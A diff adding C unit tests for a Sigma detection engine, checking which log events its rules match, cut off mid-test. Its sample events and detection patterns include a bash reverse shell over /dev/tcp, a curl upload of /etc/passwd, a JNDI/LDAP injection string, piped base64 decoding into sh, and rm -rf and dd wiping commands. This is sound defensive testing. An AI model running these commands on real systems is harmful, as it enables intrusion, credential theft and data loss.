@@ -1,0 +1,1251 @@
+/* test_sigma.c - the Sigma single-event engine: every supported feature with
+ * events that must and must not match, every refusal with its file:line
+ * sentence, directory loading, concurrent matching, and the SigmaHQ
+ * Linux/web/network folders. */
+#include <stdarg.h>
+#include <stddef.h>
+#include <stdint.h>
+#include <setjmp.h>
+#include <cmocka.h>
+
+#include <pthread.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include "correlator/sigma.h"
+
+/* ---------------------------------------------------------------- helpers -- */
+
+#define HEAD "title: test rule\nid: 00000000-0000-0000-0000-000000000001\nlogsource:\n  product: linux\n"
+#define RULE(det) HEAD "detection:\n" det
+
+typedef struct errs {
+    int n;
+    char last[1024];
+} errs;
+
+static void on_err(const char *msg, void *ud)
+{
+    errs *e = ud;
+    e->n++;
+    snprintf(e->last, sizeof e->last, "%s", msg);
+}
+
+static cs_ruleset *load_ok(const char *yaml)
+{
+    cs_ruleset *rs = NULL;
+    errs e = {0};
+    cs_rc rc;
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    rc = cs_ruleset_load_string(rs, "test.yml", yaml, strlen(yaml), on_err, &e);
+    if (rc != CS_OK) {
+        print_error("unexpected refusal: %s\n", cs_err_msg());
+    }
+    assert_int_equal(rc, CS_OK);
+    assert_int_equal(e.n, 0);
+    assert_true(cs_ruleset_count(rs) >= 1);
+    return rs;
+}
+
+/* Load must fail with a sentence naming test.yml:line and containing `what`. */
+static void load_refused(const char *yaml, int line, const char *what)
+{
+    cs_ruleset *rs = NULL;
+    errs e = {0};
+    char where[64];
+    cs_rc rc;
+    assert_int_equal(cs_ruleset_new(&rs), CS_OK);
+    rc = cs_ruleset_load_string(rs, "test.yml", yaml, strlen(yaml), on_err, &e);
+    snprintf(where, sizeof where, "test.yml:%d:", line);
+    if (rc != CS_ERR_RULE || strstr(cs_err_msg(), where) == NULL || strstr(cs_err_msg(), what) == NULL) {
+        print_error("rc=%d msg='%s' (wanted '%s' and '%s')\n", rc, cs_err_msg(), where, what);
+    }
+    assert_int_equal(rc, CS_ERR_RULE);
+    assert_non_null(strstr(cs_err_msg(), where));
+    assert_non_null(strstr(cs_err_msg(), what));
+    assert_int_equal(e.n, 1);
+    assert_string_equal(e.last, cs_err_msg());
+    assert_int_equal(cs_ruleset_count(rs), 0);
+    cs_ruleset_free(rs);
+}
+
+static cs_fid fid(const char *name)
+{
+    cs_fid id = cs_field_intern(name, strlen(name));
+    assert_int_not_equal(id, CS_F_NONE);
+    return id;
+}
+
+/* An event from name/value string pairs, NULL-terminated. */
+static cs_event *ev_str(const char *name, ...)
+{
+    cs_event *ev = cs_event_new(CS_KIND_LOG, 0);
+    va_list ap;
+    assert_non_null(ev);
+    va_start(ap, name);
+    for (const char *n = name; n != NULL; n = va_arg(ap, const char *)) {
+        const char *v = va_arg(ap, const char *);
+        assert_int_equal(cs_event_add_cstr(&ev, fid(n), v), CS_OK);
+    }
+    va_end(ap);
+    return ev;
+}
+
+static bool matches(const cs_ruleset *rs, const cs_event *ev)
+{
+    return cs_ruleset_match(rs, ev, NULL, NULL) > 0;
+}
+
+/* One rule, one string field: does value v match? */
+static bool m1(const cs_ruleset *rs, const char *field, const char *v)
+{
+    cs_event *ev = ev_str(field, v, NULL);
+    bool r = matches(rs, ev);
+    cs_event_free(ev);
+    return r;
+}
+
+/* ------------------------------------------------------------ strings -- */
+
+static void test_exact_case_folding(void **state)
+{
+    cs_ruleset *rs = load_ok(RULE("  selection:\n    Image: '/usr/bin/Curl'\n  condition: selection\n"));
+    cs_event *ev;
+    (void)state;
+    assert_true(m1(rs, "Image", "/usr/bin/curl"));
+    assert_true(m1(rs, "Image", "/USR/BIN/CURL"));
+    assert_false(m1(rs, "Image", "/usr/bin/curl2"));
+    assert_false(m1(rs, "Image", "x/usr/bin/curl"));
+    assert_false(m1(rs, "Image", ""));
+    assert_false(m1(rs, "CommandLine", "/usr/bin/curl"));   /* other field */
+    ev = cs_event_new(CS_KIND_LOG, 0);
+    assert_false(matches(rs, ev));                          /* absent */
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+static void test_wildcards(void **state)
+{
+    cs_ruleset *rs;
+    (void)state;
+    rs = load_ok(RULE("  s:\n    a: 'foo*bar'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "foobar"));
+    assert_true(m1(rs, "a", "FOO-x-BAR"));
+    assert_false(m1(rs, "a", "foobarz"));
+    assert_false(m1(rs, "a", "xfoobar"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: 'f?o'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "fxo"));
+    assert_true(m1(rs, "a", "F?O"));
+    assert_false(m1(rs, "a", "fo"));
+    assert_false(m1(rs, "a", "fxxo"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: '*.exe'\n  condition: s\n"));   /* suffix */
+    assert_true(m1(rs, "a", "c:\\x\\EVIL.EXE"));
+    assert_true(m1(rs, "a", ".exe"));
+    assert_false(m1(rs, "a", "evil.exe.txt"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: '/tmp/*'\n  condition: s\n"));   /* prefix */
+    assert_true(m1(rs, "a", "/tmp/x"));
+    assert_true(m1(rs, "a", "/tmp/"));
+    assert_false(m1(rs, "a", "/var/tmp/x"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: '*wget*'\n  condition: s\n"));   /* contains */
+    assert_true(m1(rs, "a", "sh -c WGET http://x"));
+    assert_true(m1(rs, "a", "wget"));
+    assert_false(m1(rs, "a", "wge t"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: 'a*b?*c'\n  condition: s\n"));   /* general glob */
+    assert_true(m1(rs, "a", "a--bX--c"));
+    assert_true(m1(rs, "a", "abxc"));
+    assert_true(m1(rs, "a", "ab-b-c"));
+    assert_false(m1(rs, "a", "abc"));
+    assert_false(m1(rs, "a", "acbx"));
+    assert_false(m1(rs, "a", "abxcd"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: '*#-*'\n  condition: s\n"));   /* CVE-2019-14287 style */
+    assert_true(m1(rs, "a", "sudo -u#-1 id"));
+    assert_false(m1(rs, "a", "sudo -u#1 id"));
+    cs_ruleset_free(rs);
+
+    /* substring search that must skip false candidates of its anchor byte */
+    rs = load_ok(RULE("  s:\n    a|contains:\n      - 'Ab/Cd'\n      - 'x?/1 y'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "ab/cab/ab/CD"));
+    assert_true(m1(rs, "a", "//xx/1 y"));
+    assert_true(m1(rs, "a", "X-/1 Y"));
+    assert_false(m1(rs, "a", "ab/cab/ab/c"));
+    assert_false(m1(rs, "a", "x/1 y"));
+    assert_false(m1(rs, "a", "/"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: '*/etc/*.d/*-x'\n  condition: s\n"));   /* glob, anchored end */
+    assert_true(m1(rs, "a", "cat /ETC/init.d/a-b-X"));
+    assert_true(m1(rs, "a", "/etc/.d/-x"));
+    assert_false(m1(rs, "a", "cat /etc/init.d/a-b-x "));
+    assert_false(m1(rs, "a", "cat /etc/init/a-x"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: '*'\n  condition: s\n"));   /* any value, but present */
+    assert_true(m1(rs, "a", ""));
+    assert_true(m1(rs, "a", "anything"));
+    assert_false(m1(rs, "b", "anything"));
+    cs_ruleset_free(rs);
+}
+
+static void test_escapes(void **state)
+{
+    cs_ruleset *rs;
+    (void)state;
+    rs = load_ok(RULE("  s:\n    a: 'x\\*y'\n  condition: s\n"));   /* \* is a literal star */
+    assert_true(m1(rs, "a", "x*y"));
+    assert_false(m1(rs, "a", "xzy"));
+    assert_false(m1(rs, "a", "x\\*y"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: 'x\\?y'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "x?y"));
+    assert_false(m1(rs, "a", "xzy"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: 'c:\\\\*'\n  condition: s\n"));   /* \\* : backslash, then wildcard */
+    assert_true(m1(rs, "a", "c:\\windows"));
+    assert_true(m1(rs, "a", "c:\\"));
+    assert_false(m1(rs, "a", "c:windows"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: 'c:\\\\\\*'\n  condition: s\n"));   /* \\\* : backslash, literal star */
+    assert_true(m1(rs, "a", "c:\\*"));
+    assert_false(m1(rs, "a", "c:\\windows"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: 'C:\\Windows\\System32'\n  condition: s\n"));   /* other \ kept */
+    assert_true(m1(rs, "a", "c:\\windows\\system32"));
+    assert_false(m1(rs, "a", "c:windowssystem32"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a|endswith: '\\'\n  condition: s\n"));   /* lone trailing \ kept */
+    assert_true(m1(rs, "a", "dir\\"));
+    assert_false(m1(rs, "a", "dir"));
+    cs_ruleset_free(rs);
+}
+
+static void test_string_modifiers(void **state)
+{
+    cs_ruleset *rs;
+    (void)state;
+    rs = load_ok(RULE("  s:\n    a|contains:\n      - 'base64 -d'\n      - '/dev/tcp/'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "echo x | BASE64 -D | sh"));
+    assert_true(m1(rs, "a", "bash -i >& /dev/tcp/1.2.3.4/80"));
+    assert_false(m1(rs, "a", "base64"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a|startswith: 'cmd'\n    b|endswith: '.sh'\n  condition: s\n"));
+    {
+        cs_event *ev = ev_str("a", "CMD /c", "b", "x.SH", NULL);
+        assert_true(matches(rs, ev));
+        cs_event_free(ev);
+        ev = ev_str("a", "xcmd", "b", "x.sh", NULL);
+        assert_false(matches(rs, ev));
+        cs_event_free(ev);
+        ev = ev_str("a", "cmd", "b", "x.sh.bak", NULL);
+        assert_false(matches(rs, ev));
+        cs_event_free(ev);
+        ev = ev_str("a", "cmd", NULL);   /* b absent: AND fails */
+        assert_false(matches(rs, ev));
+        cs_event_free(ev);
+    }
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a|contains: 'a*c'\n  condition: s\n"));   /* wildcard inside contains */
+    assert_true(m1(rs, "a", "xxabbbcxx"));
+    assert_false(m1(rs, "a", "xxcbbbaxx"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a|contains|cased: 'Secret'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "my Secret!"));
+    assert_false(m1(rs, "a", "my secret!"));
+    assert_false(m1(rs, "a", "my SECRET!"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a|cased: 'Exact'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "Exact"));
+    assert_false(m1(rs, "a", "exact"));
+    cs_ruleset_free(rs);
+}
+
+static void test_all_modifier(void **state)
+{
+    cs_ruleset *rs;
+    cs_event *ev;
+    (void)state;
+    rs = load_ok(RULE("  s:\n    CommandLine|contains|all:\n      - ' -F '\n      - 'http'\n  condition: s\n"));
+    assert_true(m1(rs, "CommandLine", "curl -F @/etc/passwd http://x"));
+    assert_false(m1(rs, "CommandLine", "curl -F @/etc/passwd"));
+    assert_false(m1(rs, "CommandLine", "curl http://x"));
+    /* a list field: each value may be found in a different element */
+    ev = ev_str("CommandLine", "curl -F x", "CommandLine", "HTTP://y", NULL);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+static void test_keywords(void **state)
+{
+    cs_ruleset *rs;
+    cs_event *ev;
+    (void)state;
+    rs = load_ok(RULE("  keywords:\n    - 'Failed password'\n    - 'authentication failure'\n"
+                      "  condition: keywords\n"));
+    assert_true(m1(rs, "message", "sshd[1]: FAILED PASSWORD for root from 1.2.3.4"));
+    assert_true(m1(rs, "message", "pam_unix(sudo:auth): authentication failure; logname="));
+    assert_false(m1(rs, "message", "Accepted password for root"));
+    assert_false(m1(rs, "user.name", "failed password"));            /* not a keyword field */
+    assert_true(m1(rs, "event.original", "<38>sshd: failed password"));   /* no message: raw line */
+    ev = ev_str("message", "nothing here", "event.original", "failed password", NULL);
+    assert_false(matches(rs, ev));   /* message wins when present */
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+
+    /* '|all' keyword list: AND */
+    rs = load_ok(RULE("  keywords:\n    '|all':\n      - 'dd'\n      - 'if=/dev/zero'\n  condition: keywords\n"));
+    assert_true(m1(rs, "message", "dd IF=/dev/zero of=/x"));
+    assert_false(m1(rs, "message", "dd if=/dev/urandom"));
+    cs_ruleset_free(rs);
+
+    /* keyword values keep wildcards and escapes; a single scalar is a keyword too */
+    rs = load_ok(RULE("  k1: 'rm -rf *tmp'\n  k2:\n    - 'x\\*y'\n  condition: k1 or k2\n"));
+    assert_true(m1(rs, "message", "sh: rm -rf /var/tmp now"));
+    assert_true(m1(rs, "message", "a x*y b"));
+    assert_false(m1(rs, "message", "a xzy b"));
+    assert_false(m1(rs, "message", "rm -rf /"));
+    cs_ruleset_free(rs);
+
+    /* special characters of reverse shells are literal */
+    rs = load_ok(RULE("  keywords:\n    - '${jndi:ldap:'\n    - \"'/bin/sh'\"\n  condition: keywords\n"));
+    assert_true(m1(rs, "message", "GET /?x=${JNDI:LDAP://evil}"));
+    assert_true(m1(rs, "message", "exec('/bin/sh')"));
+    assert_false(m1(rs, "message", "jndi ldap"));
+    cs_ruleset_free(rs);
+}
+
+static void test_null_and_empty(void **state)
+{
+    cs_ruleset *rs;
+    cs_event *ev;
+    (void)state;
+    rs = load_ok(RULE("  s:\n    cs-uri-query: '/x'\n    cs-referer: null\n  condition: s\n"));
+    assert_true(m1(rs, "cs-uri-query", "/x"));
+    ev = ev_str("cs-uri-query", "/x", "cs-referer", "", NULL);
+    assert_false(matches(rs, ev));   /* present (even empty) is not null */
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    a: ''\n  condition: s\n"));
+    assert_true(m1(rs, "a", ""));
+    assert_false(m1(rs, "a", "x"));
+    assert_false(m1(rs, "b", ""));   /* absent is not empty */
+    cs_ruleset_free(rs);
+
+    /* not-null written as a negated selection */
+    rs = load_ok(RULE("  s:\n    a: x\n  f:\n    b: ~\n  condition: s and not f\n"));
+    ev = ev_str("a", "x", "b", "y", NULL);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    assert_false(m1(rs, "a", "x"));
+    cs_ruleset_free(rs);
+
+    /* empty plain value means null too */
+    rs = load_ok(RULE("  s:\n    a:\n  condition: s\n"));
+    assert_true(m1(rs, "b", "x"));
+    assert_false(m1(rs, "a", "x"));
+    cs_ruleset_free(rs);
+}
+
+static void test_numbers_and_bools(void **state)
+{
+    cs_ruleset *rs;
+    cs_event *ev;
+    (void)state;
+    rs = load_ok(RULE("  s:\n    sc-status: 404\n  condition: s\n"));
+    ev = cs_event_new(CS_KIND_HTTP, 0);
+    assert_int_equal(cs_event_add_int(&ev, fid("sc-status"), 404), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    ev = cs_event_new(CS_KIND_HTTP, 0);
+    assert_int_equal(cs_event_add_int(&ev, fid("sc-status"), 4040), CS_OK);
+    assert_false(matches(rs, ev));
+    cs_event_free(ev);
+    ev = cs_event_new(CS_KIND_HTTP, 0);
+    assert_int_equal(cs_event_add_float(&ev, fid("sc-status"), 404.0), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    assert_true(m1(rs, "sc-status", "404"));
+    assert_false(m1(rs, "sc-status", "404 "));
+    cs_ruleset_free(rs);
+
+    /* a quoted number still matches an int field; lists of ports; prefix on a number */
+    rs = load_ok(RULE("  s:\n    dst_port:\n      - '80'\n      - 443\n  t:\n    src_port|startswith: '10'\n"
+                      "  condition: s or t\n"));
+    for (int64_t p = 79; p <= 81; p++) {
+        ev = cs_event_new(CS_KIND_FLOW, 0);
+        assert_int_equal(cs_event_add_int(&ev, fid("dst_port"), p), CS_OK);
+        assert_true(matches(rs, ev) == (p == 80));
+        cs_event_free(ev);
+    }
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_int(&ev, fid("dst_port"), 443), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_int(&ev, fid("src_port"), 10022), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_int(&ev, fid("src_port"), 2210), CS_OK);
+    assert_false(matches(rs, ev));
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+
+    /* floats compare as numbers, not as %.17g text */
+    rs = load_ok(RULE("  s:\n    ratio: 0.1\n  condition: s\n"));
+    ev = cs_event_new(CS_KIND_LOG, 0);
+    assert_int_equal(cs_event_add_float(&ev, fid("ratio"), 0.1), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    ev = cs_event_new(CS_KIND_LOG, 0);
+    assert_int_equal(cs_event_add_float(&ev, fid("ratio"), 0.2), CS_OK);
+    assert_false(matches(rs, ev));
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+
+    /* booleans by text: "false" (quoted) and true (plain) against bool fields and strings */
+    rs = load_ok(RULE("  s:\n    blocked: 'false'\n    ok: true\n  condition: s\n"));
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_bool(&ev, fid("blocked"), false), CS_OK);
+    assert_int_equal(cs_event_add_bool(&ev, fid("ok"), true), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_bool(&ev, fid("blocked"), true), CS_OK);
+    assert_int_equal(cs_event_add_bool(&ev, fid("ok"), true), CS_OK);
+    assert_false(matches(rs, ev));
+    cs_event_free(ev);
+    ev = ev_str("blocked", "FALSE", "ok", "True", NULL);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+static void test_ip_fields(void **state)
+{
+    cs_ruleset *rs;
+    cs_event *ev;
+    cs_ip ip;
+    (void)state;
+    /* exact address against an IP field, whatever the text form */
+    rs = load_ok(RULE("  s:\n    source.ip:\n      - '10.0.0.1'\n      - '2001:DB8:0:0::1'\n  condition: s\n"));
+    assert_true(cs_ip_parse("10.0.0.1", 8, &ip));
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_ip(&ev, CS_F_SOURCE_IP, &ip), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    assert_true(cs_ip_parse("2001:db8::1", 11, &ip));
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_ip(&ev, CS_F_SOURCE_IP, &ip), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    assert_true(cs_ip_parse("10.0.0.10", 9, &ip));
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_ip(&ev, CS_F_SOURCE_IP, &ip), CS_OK);
+    assert_false(matches(rs, ev));
+    cs_event_free(ev);
+    /* wildcards on an IP field use its text form */
+    cs_ruleset_free(rs);
+    rs = load_ok(RULE("  s:\n    source.ip|startswith: '192.168.'\n  condition: s\n"));
+    assert_true(cs_ip_parse("192.168.7.1", 11, &ip));
+    ev = cs_event_new(CS_KIND_FLOW, 0);
+    assert_int_equal(cs_event_add_ip(&ev, CS_F_SOURCE_IP, &ip), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+static void test_regex(void **state)
+{
+    cs_ruleset *rs;
+    (void)state;
+    /* case-sensitive and unanchored by default */
+    rs = load_ok(RULE("  s:\n    CommandLine|re: '-D'\n  condition: s\n"));
+    assert_true(m1(rs, "CommandLine", "auditctl -D"));
+    assert_true(m1(rs, "CommandLine", "x-Dy"));
+    assert_false(m1(rs, "CommandLine", "auditctl -d"));
+    cs_ruleset_free(rs);
+
+    rs = load_ok(RULE("  s:\n    CommandLine|re|i: '^auditctl\\s+-D$'\n  condition: s\n"));
+    assert_true(m1(rs, "CommandLine", "AUDITCTL  -d"));
+    assert_false(m1(rs, "CommandLine", "sudo auditctl -D"));
+    cs_ruleset_free(rs);
+
+    /* m: ^ and $ at line breaks */
+    rs = load_ok(RULE("  s:\n    a|re|m: '^second$'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "first\nsecond\nthird"));
+    cs_ruleset_free(rs);
+    rs = load_ok(RULE("  s:\n    a|re: '^second$'\n  condition: s\n"));
+    assert_false(m1(rs, "a", "first\nsecond\nthird"));
+    cs_ruleset_free(rs);
+
+    /* s: dot matches a newline */
+    rs = load_ok(RULE("  s:\n    a|re|s: 'begin.+end'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "begin\nend"));
+    cs_ruleset_free(rs);
+    rs = load_ok(RULE("  s:\n    a|re: 'begin.+end'\n  condition: s\n"));
+    assert_false(m1(rs, "a", "begin\nend"));
+    assert_true(m1(rs, "a", "begin-end"));
+    cs_ruleset_free(rs);
+
+    /* long flag names, inline (?i), (?:...), list of regexes (OR) */
+    rs = load_ok(RULE("  s:\n    a|re|ignorecase|multiline|dotall:\n      - '(?:\\s-[^-\\s]{0,20}i|\\s--inode\\s)'\n"
+                      "      - '(?i)ipfs\\.io/'\n  condition: s\n"));
+    assert_true(m1(rs, "a", "ls -laI /x"));
+    assert_true(m1(rs, "a", "GET https://IPFS.io/x"));
+    assert_false(m1(rs, "a", "ls -l /x"));
+    cs_ruleset_free(rs);
+
+    /* regex against a number's text form, and on invalid UTF-8 */
+    rs = load_ok(RULE("  s:\n    port|re: '^4[0-9]{2}$'\n  t:\n    b|re: 'x.y'\n  condition: s or t\n"));
+    {
+        cs_event *ev = cs_event_new(CS_KIND_LOG, 0);
+        assert_int_equal(cs_event_add_int(&ev, fid("port"), 443), CS_OK);
+        assert_true(matches(rs, ev));
+        cs_event_free(ev);
+        ev = cs_event_new(CS_KIND_LOG, 0);
+        assert_int_equal(cs_event_add_int(&ev, fid("port"), 4430), CS_OK);
+        assert_false(matches(rs, ev));
+        cs_event_free(ev);
+        ev = cs_event_new(CS_KIND_LOG, 0);
+        assert_int_equal(cs_event_add_str(&ev, fid("b"), "\xff\xfe x-y \xc3", 9), CS_OK);
+        assert_true(matches(rs, ev));
+        cs_event_free(ev);
+    }
+    cs_ruleset_free(rs);
+}
+
+static cs_event *ev_ip(cs_fid id, const char *addr)
+{
+    cs_event *ev = cs_event_new(CS_KIND_FLOW, 0);
+    cs_ip ip;
+    assert_true(cs_ip_parse(addr, strlen(addr), &ip));
+    assert_int_equal(cs_event_add_ip(&ev, id, &ip), CS_OK);
+    return ev;
+}
+
+static bool mip(const cs_ruleset *rs, cs_fid id, const char *addr)
+{
+    cs_event *ev = ev_ip(id, addr);
+    bool r = matches(rs, ev);
+    cs_event_free(ev);
+    return r;
+}
+
+static void test_cidr(void **state)
+{
+    cs_ruleset *rs;
+    cs_fid dst = fid("DestinationIp");
+    (void)state;
+    rs = load_ok(RULE("  s:\n    DestinationIp|cidr:\n      - '10.0.0.0/8'\n      - '192.168.1.0/25'\n"
+                      "      - 'fe80::/10'\n      - '2001:db8::1'\n      - '172.16.0.1/32'\n  condition: s\n"));
+    assert_true(mip(rs, dst, "10.1.2.3"));
+    assert_true(mip(rs, dst, "10.255.255.255"));
+    assert_false(mip(rs, dst, "11.0.0.1"));
+    assert_true(mip(rs, dst, "192.168.1.127"));
+    assert_false(mip(rs, dst, "192.168.1.128"));   /* /25: bit 7 of the last byte */
+    assert_true(mip(rs, dst, "fe80::1"));
+    assert_true(mip(rs, dst, "febf:ffff::1"));
+    assert_false(mip(rs, dst, "fec0::1"));
+    assert_true(mip(rs, dst, "2001:db8::1"));
+    assert_false(mip(rs, dst, "2001:db8::2"));
+    assert_true(mip(rs, dst, "172.16.0.1"));
+    assert_false(mip(rs, dst, "172.16.0.2"));
+    assert_false(mip(rs, dst, "::ffff:10.0.0.1"));   /* v6 is not v4 */
+    /* a string field holding an address */
+    assert_true(m1(rs, "DestinationIp", "10.9.9.9"));
+    assert_true(m1(rs, "DestinationIp", "FE80::abcd"));
+    assert_false(m1(rs, "DestinationIp", "10.9.9.9 "));
+    assert_false(m1(rs, "DestinationIp", "not an ip"));
+    cs_ruleset_free(rs);
+
+    /* cidr under not, as in the SigmaHQ network rules */
+    rs = load_ok(RULE("  s:\n    Initiated: 'true'\n  f:\n    DestinationIp|cidr:\n      - '127.0.0.0/8'\n"
+                      "      - '::1/128'\n      - '0.0.0.0/0'\n  condition: s and not f\n"));
+    {
+        cs_event *ev = ev_ip(dst, "8.8.8.8");
+        assert_int_equal(cs_event_add_cstr(&ev, fid("Initiated"), "true"), CS_OK);
+        assert_false(matches(rs, ev));   /* 0.0.0.0/0 covers all of v4 */
+        cs_event_free(ev);
+        ev = ev_ip(dst, "2001:4860::8888");
+        assert_int_equal(cs_event_add_cstr(&ev, fid("Initiated"), "true"), CS_OK);
+        assert_true(matches(rs, ev));
+        cs_event_free(ev);
+    }
+    cs_ruleset_free(rs);
+}
+
+static void test_exists(void **state)
+{
+    cs_ruleset *rs;
+    (void)state;
+    rs = load_ok(RULE("  s:\n    a|exists: true\n  condition: s\n"));
+    assert_true(m1(rs, "a", ""));
+    assert_true(m1(rs, "a", "x"));
+    assert_false(m1(rs, "b", "x"));
+    cs_ruleset_free(rs);
+    rs = load_ok(RULE("  s:\n    a|exists: false\n  condition: s\n"));
+    assert_false(m1(rs, "a", "x"));
+    assert_true(m1(rs, "b", "x"));
+    cs_ruleset_free(rs);
+}
+
+static void test_field_lists(void **state)
+{
+    cs_ruleset *rs;
+    cs_event *ev;
+    (void)state;
+    /* several fields with one id: any element may match */
+    rs = load_ok(RULE("  s:\n    tags: 'evil'\n  condition: s\n"));
+    ev = ev_str("tags", "good", "tags", "EVIL", "tags", "other", NULL);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    ev = ev_str("tags", "good", "tags", "evil2", NULL);
+    assert_false(matches(rs, ev));
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+static void test_field_names(void **state)
+{
+    cs_ruleset *rs;
+    cs_event *ev;
+    (void)state;
+    /* an ECS name resolves to the canonical id; a foreign name is interned */
+    rs = load_ok(RULE("  s:\n    process.name: 'bash'\n    cs-uri-query|contains: '/../'\n  condition: s\n"));
+    assert_int_equal(cs_field_lookup("process.name", 12), CS_F_PROCESS_NAME);
+    assert_int_not_equal(cs_field_lookup("cs-uri-query", 12), CS_F_NONE);
+    ev = cs_event_new(CS_KIND_LOG, 0);
+    assert_int_equal(cs_event_add_cstr(&ev, CS_F_PROCESS_NAME, "bash"), CS_OK);
+    assert_int_equal(cs_event_add_cstr(&ev, cs_field_lookup("cs-uri-query", 12), "/cgi-bin/../../etc"), CS_OK);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    cs_ruleset_free(rs);
+}
+
+/* --------------------------------------------------- detections & cond -- */
+
+static void test_list_of_maps(void **state)
+{
+    cs_ruleset *rs;
+    cs_event *ev;
+    (void)state;
+    rs = load_ok(RULE("  s:\n    - Image|endswith: '/curl'\n      CommandLine|contains: ' -F '\n"
+                      "    - Image|endswith: '/wget'\n  condition: s\n"));
+    ev = ev_str("Image", "/usr/bin/curl", "CommandLine", "curl -F x", NULL);
+    assert_true(matches(rs, ev));
+    cs_event_free(ev);
+    ev = ev_str("Image", "/usr/bin/curl", "CommandLine", "curl -O x", NULL);
+    assert_false(matches(rs, ev));
+    cs_event_free(ev);
+    assert_true(m1(rs, "Image", "/usr/bin/wget"));
+    assert_false(m1(rs, "Image", "/usr/bin/curl"));
+    cs_ruleset_free(rs);
+}
+
+/* Rule over fields a, b, c, d holding "1" when present. */
+static bool mabc(const cs_ruleset *rs, const char *present)
+{
+    cs_event *ev = cs_event_new(CS_KIND_LOG, 0);
+    bool r;
+    for (const char *p = present; *p; p++) {
+        char name[2] = {*p, 0};
+        assert_int_equal(cs_event_add_cstr(&ev, fid(name), "1"), CS_OK);
+    }
+    r = matches(rs, ev);
+    cs_event_free(ev);
+    return r;
+}
+
+#define ABCD "  a:\n    a: 1\n  b:\n    b: 1\n  c:\n    c: 1\n  d:\n    d: 1\n"
+
+static void test_condition_precedence(void **state)
+{
+    cs_ruleset *rs;
+    (void)state;
+    /* and binds tighter than or */
+    rs = load_ok(RULE(ABCD "  condition: a or b and c\n"));
+    assert_true(mabc(rs, "a"));
+    assert_false(mabc(rs, "b"));
+    assert_true(mabc(rs, "bc"));
+    cs_ruleset_free(rs);
+    /* parentheses override */
+    rs = load_ok(RULE(ABCD "  condition: (a or b) and c\n"));
+    assert_false(mabc(rs, "a"));
+    assert_true(mabc(rs, "ac"));
+    assert_true(mabc(rs, "bc"));
+    cs_ruleset_free(rs);
+    /* not binds tighter than and */
+    rs = load_ok(RULE(ABCD "  condition: not a and b\n"));
+    assert_true(mabc(rs, "b"));
+    assert_false(mabc(rs, "ab"));
+    assert_false(mabc(rs, ""));
+    cs_ruleset_free(rs);
+    rs = load_ok(RULE(ABCD "  condition: not (a and b)\n"));
+    assert_true(mabc(rs, "b"));
+    assert_false(mabc(rs, "ab"));
+    assert_true(mabc(rs, ""));
